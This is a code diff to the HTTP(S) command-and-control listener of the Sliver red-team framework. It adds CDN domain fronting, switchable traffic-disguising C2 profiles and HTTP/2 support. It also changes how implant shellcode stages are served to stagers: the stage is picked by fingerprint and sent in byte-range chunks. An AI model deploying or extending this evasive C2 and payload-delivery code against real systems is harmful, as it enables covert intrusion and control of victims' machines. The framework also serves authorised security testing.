@@ -34,10 +34,12 @@ import (
 	"net/url"
 	"path/filepath"
 	"strconv"
+	"strings"
 	"sync"
 	"time"
 	"unicode"
 
+	"github.com/bishopfox/sliver/protobuf/clientpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/server/certs"
 	"github.com/bishopfox/sliver/server/configs"
@@ -51,6 +53,7 @@ import (
 	"github.com/bishopfox/sliver/util/encoders"
 
 	"github.com/gorilla/mux"
+	"golang.org/x/net/http2"
 	"google.golang.org/protobuf/proto"
 )
 
@@ -75,6 +78,15 @@ const (
 
 var (
 	serverVersionHeader string
+
+	// cdnClientAddrHeaders - Headers CDNs use to forward the client's address
+	cdnClientAddrHeaders = []string{
+		"CF-Connecting-IP",
+		"True-Client-IP",
+		"Fastly-Client-IP",
+		"X-Real-Ip",
+		"X-Forwarded-For",
+	}
 )
 
 // HTTPSession - Holds data related to a sliver c2 session
@@ -132,6 +144,10 @@ type HTTPServerConfig struct {
 	LongPollTimeout time.Duration
 	LongPollJitter  time.Duration
 	RandomizeJARM   bool
+
+	C2Profile   string // Named http c2 profile, empty for the default
+	FrontDomain string // Domain implants front through, the listener only sees the CDN
+	HTTP2       bool   // Negotiate HTTP/2 with implants that support it, only valid with Secure
 }
 
 // SliverHTTPC2 - Holds refs to all the C2 objects
@@ -139,10 +155,15 @@ type SliverHTTPC2 struct {
 	HTTPServer   *http.Server
 	ServerConf   *HTTPServerConfig // Server config (user args)
 	HTTPSessions *HTTPSessions
-	SliverStage  []byte // Sliver shellcode to serve during staging process
+	SliverStage  *Stager // Sliver shellcode stages to serve during staging process
 	Cleanup      func()
 
 	c2Config *configs.HTTPC2Config // C2 config (from config file)
+
+	// Guards the settings operators can change while the listener is running,
+	// and the router which is rebuilt when the c2 profile changes
+	settingsMutex sync.RWMutex
+	handler       http.Handler
 }
 
 func (s *SliverHTTPC2) getServerHeader() string {
@@ -158,19 +179,37 @@ func (s *SliverHTTPC2) getServerHeader() string {
 }
 
 func (s *SliverHTTPC2) getCookieName() string {
-	cookies := configs.GetHTTPC2Config().ServerConfig.Cookies
+	cookies := s.LoadC2Config().ServerConfig.Cookies
 	index := insecureRand.Intn(len(cookies))
 	return cookies[index]
 }
 
 func (s *SliverHTTPC2) LoadC2Config() *configs.HTTPC2Config {
+	s.settingsMutex.Lock()
+	defer s.settingsMutex.Unlock()
 	if s.c2Config != nil {
 		return s.c2Config
 	}
-	s.c2Config = configs.GetHTTPC2Config()
+	config, err := configs.GetHTTPC2Profile(s.ServerConf.C2Profile)
+	if err != nil {
+		httpLog.Errorf("Failed to load http c2 profile %s, using default", err)
+		config = configs.GetHTTPC2Config()
+	}
+	s.c2Config = config
 	return s.c2Config
 }
 
+// wrapResponse - Wrap the encoded data in the c2 profile's response prefix/suffix
+func (s *SliverHTTPC2) wrapResponse(data []byte) []byte {
+	implantConfig := s.LoadC2Config().ImplantConfig
+	if implantConfig.ResponsePrefix == "" && implantConfig.ResponseSuffix == "" {
+		return data
+	}
+	wrapped := []byte(implantConfig.ResponsePrefix)
+	wrapped = append(wrapped, data...)
+	return append(wrapped, implantConfig.ResponseSuffix...)
+}
+
 // StartHTTPListener - Start an HTTP(S) listener, this can be used to start both
 //
 //	HTTP/HTTPS depending on the caller's conf
@@ -178,6 +217,16 @@ func (s *SliverHTTPC2) LoadC2Config() *configs.HTTPC2Config {
 // TODO: Better error handling, configurable ACME host/port
 func StartHTTPListener(conf *HTTPServerConfig) (*SliverHTTPC2, error) {
 	httpLog.Infof("Starting https listener on '%s'", conf.Addr)
+	if _, err := configs.GetHTTPC2Profile(conf.C2Profile); err != nil {
+		return nil, err
+	}
+	if conf.MaxRequestLength < 1024 {
+		conf.MaxRequestLength = DefaultMaxBodyLength
+	}
+	if conf.LongPollTimeout == 0 {
+		conf.LongPollTimeout = DefaultLongPollTimeout
+		conf.LongPollJitter = DefaultLongPollJitter
+	}
 	server := &SliverHTTPC2{
 		ServerConf: conf,
 		HTTPSessions: &HTTPSessions{
@@ -185,9 +234,10 @@ func StartHTTPListener(conf *HTTPServerConfig) (*SliverHTTPC2, error) {
 			mutex:  &sync.RWMutex{},
 		},
 	}
+	server.handler = server.router()
 	server.HTTPServer = &http.Server{
 		Addr:         conf.Addr,
-		Handler:      server.router(),
+		Handler:      http.HandlerFunc(server.serveHTTP),
 		WriteTimeout: DefaultHTTPTimeout,
 		ReadTimeout:  DefaultHTTPTimeout,
 		IdleTimeout:  DefaultHTTPTimeout,
@@ -226,10 +276,28 @@ func StartHTTPListener(conf *HTTPServerConfig) (*SliverHTTPC2, error) {
 			}
 		}
 	}
+	if conf.Secure && conf.HTTP2 {
+		err := enableHTTP2(server.HTTPServer)
+		if err != nil {
+			return nil, err
+		}
+	}
 
 	return server, nil
 }
 
+// enableHTTP2 - Negotiate HTTP/2 via ALPN, implants that don't ask for it still get HTTP/1.1
+func enableHTTP2(httpServer *http.Server) error {
+	httpServer.TLSNextProto = nil
+	tlsConfig := httpServer.TLSConfig
+	// HTTP/2 requires an AES-128-GCM suite, which a randomized JARM may not have picked
+	required := tls.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256
+	if tlsConfig != nil && tlsConfig.CipherSuites != nil && !util.Contains(tlsConfig.CipherSuites, required) {
+		tlsConfig.CipherSuites = append(tlsConfig.CipherSuites, required)
+	}
+	return http2.ConfigureServer(httpServer, &http2.Server{IdleTimeout: DefaultHTTPTimeout})
+}
+
 func getHTTPSConfig(conf *HTTPServerConfig) *tls.Config {
 	if conf.Cert == nil || conf.Key == nil {
 		var err error
@@ -338,13 +406,6 @@ func getHTTPSConfig(conf *HTTPServerConfig) *tls.Config {
 func (s *SliverHTTPC2) router() *mux.Router {
 	router := mux.NewRouter()
 	c2Config := s.LoadC2Config()
-	if s.ServerConf.MaxRequestLength < 1024 {
-		s.ServerConf.MaxRequestLength = DefaultMaxBodyLength
-	}
-	if s.ServerConf.LongPollTimeout == 0 {
-		s.ServerConf.LongPollTimeout = DefaultLongPollTimeout
-		s.ServerConf.LongPollJitter = DefaultLongPollJitter
-	}
 
 	httpLog.Debugf("HTTP C2 Implant Config = %v", c2Config.ImplantConfig)
 	httpLog.Debugf("HTTP C2 Server Config = %v", c2Config.ServerConfig)
@@ -391,6 +452,61 @@ func (s *SliverHTTPC2) router() *mux.Router {
 	return router
 }
 
+// serveHTTP - Serve the request with the router of the current c2 profile
+func (s *SliverHTTPC2) serveHTTP(resp http.ResponseWriter, req *http.Request) {
+	s.settingsMutex.RLock()
+	handler := s.handler
+	s.settingsMutex.RUnlock()
+	handler.ServeHTTP(resp, req)
+}
+
+// settings - The listener's current runtime settings
+func (s *SliverHTTPC2) settings() *clientpb.ListenerSettings {
+	s.settingsMutex.RLock()
+	defer s.settingsMutex.RUnlock()
+	return &clientpb.ListenerSettings{
+		LongPollTimeout: int64(s.ServerConf.LongPollTimeout),
+		LongPollJitter:  int64(s.ServerConf.LongPollJitter),
+		C2Profile:       s.ServerConf.C2Profile,
+		EnforceOTP:      s.ServerConf.EnforceOTP,
+	}
+}
+
+// applySettings - Change the listener's settings, changing the c2 profile rebuilds the
+// router so implants immediately have to use the new profile's file extensions
+func (s *SliverHTTPC2) applySettings(settings *clientpb.ListenerSettings) error {
+	if settings.LongPollTimeout < 0 || settings.LongPollJitter < 0 {
+		return ErrInvalidListenerSettings
+	}
+	c2Config, err := configs.GetHTTPC2Profile(settings.C2Profile)
+	if err != nil {
+		return err
+	}
+
+	s.settingsMutex.Lock()
+	profileChanged := s.ServerConf.C2Profile != settings.C2Profile
+	s.ServerConf.LongPollTimeout = time.Duration(settings.LongPollTimeout)
+	s.ServerConf.LongPollJitter = time.Duration(settings.LongPollJitter)
+	if s.ServerConf.LongPollTimeout == 0 {
+		s.ServerConf.LongPollTimeout = DefaultLongPollTimeout
+		s.ServerConf.LongPollJitter = DefaultLongPollJitter
+	}
+	s.ServerConf.EnforceOTP = settings.EnforceOTP
+	s.ServerConf.C2Profile = settings.C2Profile
+	if profileChanged {
+		s.c2Config = c2Config
+	}
+	s.settingsMutex.Unlock()
+
+	if profileChanged {
+		router := s.router()
+		s.settingsMutex.Lock()
+		s.handler = router
+		s.settingsMutex.Unlock()
+	}
+	return nil
+}
+
 func (s *SliverHTTPC2) noCacheHeader(resp http.ResponseWriter) {
 	resp.Header().Add("Cache-Control", "no-store, no-cache, must-revalidate")
 }
@@ -406,7 +522,10 @@ func (s *SliverHTTPC2) filterNonce(req *http.Request, rm *mux.RouteMatch) bool {
 }
 
 func (s *SliverHTTPC2) filterOTP(req *http.Request, rm *mux.RouteMatch) bool {
-	if s.ServerConf.EnforceOTP {
+	s.settingsMutex.RLock()
+	enforceOTP := s.ServerConf.EnforceOTP
+	s.settingsMutex.RUnlock()
+	if enforceOTP {
 		httpLog.Debug("Checking for valid OTP code ...")
 		otpCode, err := getOTPFromURL(req.URL)
 		if err != nil {
@@ -490,10 +609,11 @@ func loggingMiddleware(next http.Handler) http.Handler {
 // DefaultRespHeaders - Configures default response headers
 func (s *SliverHTTPC2) DefaultRespHeaders(next http.Handler) http.Handler {
 	return http.HandlerFunc(func(resp http.ResponseWriter, req *http.Request) {
-		if s.c2Config.ServerConfig.RandomVersionHeaders {
+		c2Config := s.LoadC2Config()
+		if c2Config.ServerConfig.RandomVersionHeaders {
 			resp.Header().Set("Server", s.getServerHeader())
 		}
-		for _, header := range s.c2Config.ServerConfig.Headers {
+		for _, header := range c2Config.ServerConfig.Headers {
 			if 0 < header.Probability && header.Probability < 100 {
 				roll := insecureRand.Intn(99) + 1
 				if header.Probability < roll {
@@ -578,7 +698,7 @@ func (s *SliverHTTPC2) startSessionHandler(resp http.ResponseWriter, req *http.R
 	var senderPublicKey [32]byte
 	copy(senderPublicKey[:], publicKey)
 
-	serverKeyPair := cryptography.ECCServerKeyPair()
+	serverKeyPair := cryptography.ECCServerKeyPairFor(implantConfig.ECCServerPublicKey)
 	sessionInitData, err := cryptography.ECCDecrypt(&senderPublicKey, serverKeyPair.Private, data[32:])
 	if err != nil {
 		httpLog.Error("ECC decryption failed")
@@ -599,7 +719,7 @@ func (s *SliverHTTPC2) startSessionHandler(resp http.ResponseWriter, req *http.R
 		return
 	}
 	httpSession.CipherCtx = cryptography.NewCipherContext(sKey)
-	httpSession.ImplantConn = core.NewImplantConnection("http(s)", getRemoteAddr(req))
+	httpSession.ImplantConn = core.NewImplantConnection("http(s)", s.implantRemoteAddr(req))
 	s.HTTPSessions.Add(httpSession)
 	httpLog.Infof("Started new session with http session id: %s", httpSession.ID)
 
@@ -617,7 +737,7 @@ func (s *SliverHTTPC2) startSessionHandler(resp http.ResponseWriter, req *http.R
 		HttpOnly: true,
 	})
 	s.noCacheHeader(resp)
-	resp.Write(encoder.Encode(responseCiphertext))
+	resp.Write(s.wrapResponse(encoder.Encode(responseCiphertext)))
 }
 
 func (s *SliverHTTPC2) sessionHandler(resp http.ResponseWriter, req *http.Request) {
@@ -683,7 +803,7 @@ func (s *SliverHTTPC2) pollHandler(resp http.ResponseWriter, req *http.Request)
 			ciphertext = []byte{}
 		}
 		s.noCacheHeader(resp)
-		resp.Write(encoder.Encode(ciphertext))
+		resp.Write(s.wrapResponse(encoder.Encode(ciphertext)))
 	case <-req.Context().Done():
 		httpLog.Debug("Poll client hang up")
 		return
@@ -729,8 +849,10 @@ func (s *SliverHTTPC2) readReqBody(httpSession *HTTPSession, resp http.ResponseW
 }
 
 func (s *SliverHTTPC2) getServerPollTimeout() time.Duration {
+	s.settingsMutex.RLock()
 	min := s.ServerConf.LongPollTimeout
 	max := s.ServerConf.LongPollTimeout + s.ServerConf.LongPollJitter
+	s.settingsMutex.RUnlock()
 	timeout := float64(min) + insecureRand.Float64()*(float64(max)-float64(min))
 	pollTimeout := time.Duration(int64(timeout))
 	if pollTimeout < minPollTimeout {
@@ -760,15 +882,36 @@ func (s *SliverHTTPC2) closeHandler(resp http.ResponseWriter, req *http.Request)
 // stagerHandler - Serves the sliver shellcode to the stager requesting it
 func (s *SliverHTTPC2) stagerHandler(resp http.ResponseWriter, req *http.Request) {
 	httpLog.Debug("Stager request")
-	if len(s.SliverStage) != 0 {
-		httpLog.Infof("Received staging request from %s", getRemoteAddr(req))
-		s.noCacheHeader(resp)
-		resp.Write(s.SliverStage)
-		httpLog.Infof("Serving sliver shellcode (size %d) to %s", len(s.SliverStage), getRemoteAddr(req))
-		resp.WriteHeader(http.StatusOK)
-	} else {
+	if s.SliverStage == nil {
 		resp.WriteHeader(http.StatusNotFound)
+		return
+	}
+	httpLog.Infof("Received staging request from %s", getRemoteAddr(req))
+	fingerprint := stageFingerprintFromValues(req.URL.Query())
+	name, data := s.SliverStage.Select(fingerprint)
+	if len(data) == 0 {
+		resp.WriteHeader(http.StatusNotFound)
+		return
+	}
+	s.noCacheHeader(resp)
+	chunkSize := s.SliverStage.chunkSize(fingerprint)
+	rangeHeader := req.Header.Get("Range")
+	if rangeHeader == "" && (fingerprint == nil || chunkSize == 0) {
+		resp.WriteHeader(http.StatusOK)
+		resp.Write(data)
+		httpLog.Infof("Serving sliver shellcode '%s' (size %d) to %s", name, len(data), getRemoteAddr(req))
+		return
 	}
+	start, end, ok := stageRange(rangeHeader, len(data), chunkSize)
+	if !ok {
+		resp.Header().Set("Content-Range", fmt.Sprintf("bytes */%d", len(data)))
+		resp.WriteHeader(http.StatusRequestedRangeNotSatisfiable)
+		return
+	}
+	resp.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", start, end, len(data)))
+	resp.WriteHeader(http.StatusPartialContent)
+	resp.Write(data[start : end+1])
+	httpLog.Infof("Serving sliver shellcode '%s' (bytes %d-%d/%d) to %s", name, start, end, len(data), getRemoteAddr(req))
 }
 
 func (s *SliverHTTPC2) getHTTPSession(req *http.Request) *HTTPSession {
@@ -796,6 +939,23 @@ func newHTTPSessionID() string {
 	return hex.EncodeToString(buf)
 }
 
+// implantRemoteAddr - Fronted listeners only ever see the CDN's edge servers, so
+// use the client address the CDN forwards to identify the implant
+func (s *SliverHTTPC2) implantRemoteAddr(req *http.Request) string {
+	if s.ServerConf.FrontDomain == "" {
+		return getRemoteAddr(req)
+	}
+	for _, header := range cdnClientAddrHeaders {
+		// X-Forwarded-For is a list of addresses, the first is the original client
+		value := strings.TrimSpace(strings.Split(req.Header.Get(header), ",")[0])
+		if ip := net.ParseIP(value); ip != nil {
+			return fmt.Sprintf("tcp(%s)->%s", req.RemoteAddr, ip.String())
+		}
+	}
+	httpLog.Warnf("Fronted request from %s does not have a client address header", req.RemoteAddr)
+	return req.RemoteAddr
+}
+
 func getRemoteAddr(req *http.Request) string {
 	ipAddress := req.Header.Get("X-Real-Ip")
 	if ipAddress == "" {